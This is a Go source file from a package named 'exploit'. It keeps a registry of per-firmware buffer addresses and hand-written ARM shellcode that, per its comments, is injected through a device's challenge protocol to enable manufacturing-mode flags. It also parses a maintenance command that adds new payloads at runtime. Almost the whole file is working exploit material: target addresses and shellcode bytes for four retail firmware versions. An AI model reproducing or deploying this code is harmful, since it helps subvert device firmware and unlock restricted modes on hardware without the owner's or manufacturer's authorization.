package exploit

import (
	"encoding/hex"
	"strconv"
	"strings"
	"sync"
)

// FwConstants holds the two firmware-specific values needed to build a
// payload: the address of the buffer the challenge protocol writes to, and
// the shellcode to place there.
type FwConstants struct {
	BufAddr   uint32
	Shellcode []byte
}

// FwRegistry maps device version strings (as returned by the version query)
// to their constants. Seeded with the known retail firmwares; entries can
// be replaced at runtime via the picofwconst maintenance command.
type FwRegistry struct {
	mu      sync.Mutex
	entries map[string]FwConstants
}

// NewFwRegistry returns a registry seeded with the built-in firmware table.
func NewFwRegistry() *FwRegistry {
	r := &FwRegistry{entries: make(map[string]FwConstants)}
	for version, fc := range builtinFwConstants {
		r.entries[version] = fc
	}
	return r
}

// Lookup returns the constants for a version string.
func (r *FwRegistry) Lookup(version string) (FwConstants, bool) {
	r.mu.Lock()
	defer r.mu.Unlock()
	fc, ok := r.entries[version]
	return fc, ok
}

// Set inserts or replaces an entry.
func (r *FwRegistry) Set(version string, fc FwConstants) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.entries[version] = fc
}

// ParseFwConstsCommand parses "picofwconst <version> <hexaddr> <hexshellcode>".
// Dots in the version argument are normalized to spaces to match the
// on-device version string format.
func ParseFwConstsCommand(cmd string) (version string, fc FwConstants, ok bool) {
	parts := strings.Split(cmd, " ")
	if len(parts) != 4 {
		return "", FwConstants{}, false
	}
	version = strings.ReplaceAll(parts[1], ".", " ")
	addr, err := strconv.ParseUint(parts[2], 16, 32)
	if err != nil {
		return "", FwConstants{}, false
	}
	shellcode, err := hex.DecodeString(parts[3])
	if err != nil {
		return "", FwConstants{}, false
	}
	return version, FwConstants{BufAddr: uint32(addr), Shellcode: shellcode}, true
}

// builtinFwConstants covers the retail firmwares with known offsets. The
// shellcode enables the manufacturing-mode flags and then tail-calls back
// into the regular command dispatcher.
var builtinFwConstants = map[string]FwConstants{
	// 1.0.4 E r5072
	"E1E 0001 0000 0004 13D0": {
		BufAddr: 0x1762e8,
		Shellcode: []byte{
			0x00, 0xb5, 0x47, 0xf2, 0x00, 0x60, 0xc0, 0xf2, 0x15, 0x00, 0x43,
			0xf6, 0xe0, 0x71, 0xc0, 0xf2, 0x17, 0x01, 0x08, 0x60, 0x01, 0x20,
			0x45, 0xf2, 0x24, 0x71, 0xc0, 0xf2, 0x17, 0x01, 0x08, 0x60, 0x40,
			0xf6, 0x95, 0x71, 0xc0, 0xf2, 0x12, 0x01, 0x88, 0x47, 0x00, 0xbd,
		},
	},
	"E1E 0001 0002 0003 1580": {
		BufAddr: 0x17de38,
		Shellcode: []byte{
			0x00, 0xb5, 0x4a, 0xf2, 0x30, 0x30, 0xc0, 0xf2, 0x15, 0x00, 0x4a,
			0xf2, 0xec, 0x61, 0xc0, 0xf2, 0x17, 0x01, 0x08, 0x60, 0x01, 0x20,
			0x4d, 0xf2, 0x40, 0x21, 0xc0, 0xf2, 0x17, 0x01, 0x08, 0x60, 0x42,
			0xf6, 0x31, 0x01, 0xc0, 0xf2, 0x12, 0x01, 0x88, 0x47, 0x00, 0xbd,
		},
	},
	"E1E 0001 0004 0002 1752": {
		BufAddr: 0x184d9c,
		Shellcode: []byte{
			0x00, 0xb5, 0x4d, 0xf2, 0x7c, 0x30, 0xc0, 0xf2, 0x15, 0x00, 0x41,
			0xf2, 0xc0, 0x11, 0xc0, 0xf2, 0x18, 0x01, 0x08, 0x60, 0x01, 0x20,
			0x43, 0xf6, 0x14, 0x71, 0xc0, 0xf2, 0x18, 0x01, 0x08, 0x60, 0x44,
			0xf2, 0x09, 0x31, 0xc0, 0xf2, 0x12, 0x01, 0x88, 0x47, 0x00, 0xbd,
		},
	},
	"E1E 0001 0008 0002 1B03": {
		BufAddr: 0x19261c,
		Shellcode: []byte{
			0x00, 0xb5, 0x45, 0xf6, 0xe8, 0x20, 0xc0, 0xf2, 0x16, 0x00, 0x4e,
			0xf2, 0x90, 0x21, 0xc0, 0xf2, 0x18, 0x01, 0x08, 0x60, 0x01, 0x20,
			0x41, 0xf2, 0x30, 0x71, 0xc0, 0xf2, 0x19, 0x01, 0x08, 0x60, 0x47,
			0xf6, 0xbd, 0x11, 0xc0, 0xf2, 0x12, 0x01, 0x88, 0x47, 0x00, 0xbd,
		},
	},
}
